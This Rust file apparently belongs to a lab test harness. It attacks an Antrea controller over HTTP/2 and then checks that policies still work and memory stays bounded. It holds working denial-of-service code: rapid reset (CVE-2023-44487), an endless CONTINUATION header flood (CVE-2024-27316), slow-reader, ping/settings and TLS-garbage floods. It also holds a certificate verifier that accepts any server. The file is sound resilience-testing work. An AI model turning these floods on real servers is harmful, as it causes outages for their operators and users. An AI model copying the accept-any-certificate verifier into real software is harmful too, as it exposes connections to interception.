//! Malformed and hostile HTTP/2 to the controller, without credentials.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::time::{Duration, Instant};

use tokio_rustls::rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
use tokio_rustls::rustls::pki_types::{CertificateDer, ServerName, UnixTime};
use tokio_rustls::rustls::{
    ClientConfig, ClientConnection, DigitallySignedStruct, Error, SignatureScheme, StreamOwned, crypto,
};

use super::attack::Attacker::Neighbour;
use super::attack::{Attack, Effect};
use super::field::Field;

const CONTROLLER: &str = "192.168.1.3:10349";
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// `GET /` by https, from the static table of HPACK.
const REQUEST: [u8; 3] = [0x82, 0x87, 0x84];
/// How much more memory it may have afterwards, in KiB.
const GROWTH: u64 = 64 << 10;

const DATA_PADDED: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

pub(super) const CATALOGUE: &[Attack] = &[
    Attack::steps("HTTP/2 rapid reset of the controller", Neighbour, |f, size| {
        abused(f, |to| rapid_reset(to, 2000 * size))
    }),
    Attack::steps("HTTP/2 header flood of the controller", Neighbour, |f, size| {
        abused(f, |to| header_flood(to, 500 * size))
    })
    .long(),
    Attack::steps("HTTP/2 slow readers of the controller", Neighbour, |f, size| {
        abused(f, |to| slow_readers(to, 20 * size))
    }),
    Attack::steps("HTTP/2 ping and settings flood", Neighbour, |f, size| abused(f, |to| pings(to, 5000 * size))).long(),
    Attack::steps("TLS garbage to the controller", Neighbour, |f, size| abused(f, |to| garbage(to, 100 * size))).long(),
];

/// Does something to the controller while it works; it still works afterwards, and is not much larger.
fn abused(f: &Field, abuse: impl Fn(SocketAddr) -> (usize, Vec<Kept>) + Sync) -> Effect {
    let before = memory();
    let (sent, kept) = f.neighbour.run(|| abuse(CONTROLLER.parse().unwrap())).unwrap();
    let works = f.policies_work();
    let after = memory();
    drop(kept);
    let grown = after.saturating_sub(before);
    let mut note = format!("memory +{} MiB", grown >> 10);
    if !works {
        note += ", policies no longer work";
    }
    Effect::new(sent, usize::from(!works) + usize::from(grown > GROWTH), note)
}

/// Resident memory of all controllers of the labs on this machine, in KiB.
fn memory() -> u64 {
    let processes = std::fs::read_dir("/proc").unwrap().filter_map(|entry| Some(entry.ok()?.path()));
    let own = |path: std::path::PathBuf| -> Option<u64> {
        let status = std::fs::read_to_string(path.join("status")).ok()?;
        status.starts_with("Name:\tantrea-controll").then_some(())?;
        status.lines().find_map(|line| line.strip_prefix("VmRSS:"))?.trim().split(' ').next()?.parse().ok()
    };
    processes.filter_map(own).sum()
}

type Tls = StreamOwned<ClientConnection, TcpStream>;
/// A connection that is held open.
pub(super) enum Kept {
    Tls(#[expect(dead_code, reason = "held open")] Box<Tls>),
    Plain(#[expect(dead_code, reason = "held open")] TcpStream),
}

/// Accepts the certificate of any server.
#[derive(Debug)]
struct AnyServer;

impl ServerCertVerifier for AnyServer {
    fn verify_server_cert(
        &self,
        _: &CertificateDer<'_>,
        _: &[CertificateDer<'_>],
        _: &ServerName<'_>,
        _: &[u8],
        _: UnixTime,
    ) -> Result<ServerCertVerified, Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        crypto::aws_lc_rs::default_provider().signature_verification_algorithms.supported_schemes()
    }
}

fn tcp(to: SocketAddr) -> Option<TcpStream> {
    let stream = TcpStream::connect_timeout(&to, Duration::from_secs(2)).ok()?;
    stream.set_read_timeout(Some(Duration::from_millis(500))).ok()?;
    stream.set_write_timeout(Some(Duration::from_secs(1))).ok()?;
    Some(stream)
}

/// A connection of HTTP/2 with these settings.
fn connect(to: SocketAddr, settings: &[u8]) -> Option<Tls> {
    let provider = Arc::new(crypto::aws_lc_rs::default_provider());
    let builder = ClientConfig::builder_with_provider(provider).with_safe_default_protocol_versions().unwrap();
    let mut config = builder.dangerous().with_custom_certificate_verifier(Arc::new(AnyServer)).with_no_client_auth();
    config.alpn_protocols = vec![b"h2".to_vec()];
    let name = ServerName::try_from("antrea").unwrap();
    let mut tls = StreamOwned::new(ClientConnection::new(Arc::new(config), name).unwrap(), tcp(to)?);
    tls.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, settings)].concat()).ok()?;
    Some(tls)
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes()[..], payload].concat()
}

/// Reads all available bytes, so that the controller can go on writing. Returns whether the connection is open.
fn swallow(tls: &mut Tls) -> bool {
    tls.sock.set_read_timeout(Some(Duration::from_millis(1))).unwrap();
    let lives = !matches!(tls.read(&mut [0; 65536]), Ok(0));
    tls.sock.set_read_timeout(Some(Duration::from_millis(500))).unwrap();
    lives
}

/// Requests that are taken back at once (CVE-2023-44487).
fn rapid_reset(to: SocketAddr, count: usize) -> (usize, Vec<Kept>) {
    let mut sent = 0;
    for _ in 0..4 {
        let Some(mut tls) = connect(to, &[]) else { continue };
        for n in 0..u32::try_from(count / 4).unwrap() {
            let stream = n * 2 + 1;
            let both = [
                frame(HEADERS, END_HEADERS | END_STREAM, stream, &REQUEST),
                frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]),
            ]
            .concat();
            if tls.write_all(&both).is_err() || (n % 100 == 99 && !swallow(&mut tls)) {
                break;
            }
            sent += 1;
        }
    }
    (sent, Vec::new())
}

/// Headers that never end (CVE-2024-27316), and large ones.
fn header_flood(to: SocketAddr, count: usize) -> (usize, Vec<Kept>) {
    let mut sent = 0;
    // A header without a place in the table: `a: bbb...`.
    let header = [&[0x00, 0x01, b'a', 0x7f, 0x81, 0x1e][..], &[b'b'; 4000]].concat();
    for _ in 0..4 {
        let Some(mut tls) = connect(to, &[]) else { continue };
        let mut flood = vec![frame(HEADERS, 0, 1, &REQUEST)];
        flood.extend((0..count / 4).map(|_| frame(CONTINUATION, 0, 1, &header)));
        for part in flood {
            if tls.write_all(&part).is_err() {
                break;
            }
            sent += 1;
        }
    }
    (sent, Vec::new())
}

/// Requests without a window for the answers, and connections without a request.
fn slow_readers(to: SocketAddr, count: usize) -> (usize, Vec<Kept>) {
    let (mut sent, mut kept) = (0, Vec::new());
    // The initial window is empty.
    let settings = [0, 4, 0, 0, 0, 0];
    for _ in 0..count {
        if let Some(mut tls) = connect(to, &settings) {
            for n in 0..100u32 {
                if tls.write_all(&frame(HEADERS, END_HEADERS | END_STREAM, n * 2 + 1, &REQUEST)).is_err() {
                    break;
                }
                sent += 1;
            }
            kept.push(Kept::Tls(Box::new(tls)));
        }
        kept.extend(tcp(to).map(Kept::Plain));
    }
    (sent, kept)
}

fn pings(to: SocketAddr, count: usize) -> (usize, Vec<Kept>) {
    let Some(mut tls) = connect(to, &[]) else { return (0, Vec::new()) };
    let (begun, mut sent) = (Instant::now(), 0);
    while sent < count && begun.elapsed() < Duration::from_secs(10) {
        let many = [frame(PING, 0, 0, &[0; 8]), frame(SETTINGS, 0, 0, &[]), frame(DATA_PADDED, 0, 1, &[])].concat();
        // Responses are not read.
        if tls.write_all(&many).is_err() {
            break;
        }
        sent += 1;
    }
    (sent, vec![Kept::Tls(Box::new(tls))])
}

fn garbage(to: SocketAddr, count: usize) -> (usize, Vec<Kept>) {
    let mut kept = Vec::new();
    for n in 0..count {
        let Some(mut stream) = tcp(to) else { continue };
        let bytes: &[u8] = match n % 4 {
            0 => PREFACE,
            1 => &[0x16, 3, 1, 0xff, 0xff],
            2 => &[0xff; 2000],
            _ => b"GET /livez HTTP/1.1\r\n\r\n",
        };
        let _ = stream.write_all(bytes);
        kept.push(Kept::Plain(stream));
    }
    (kept.len(), kept)
}
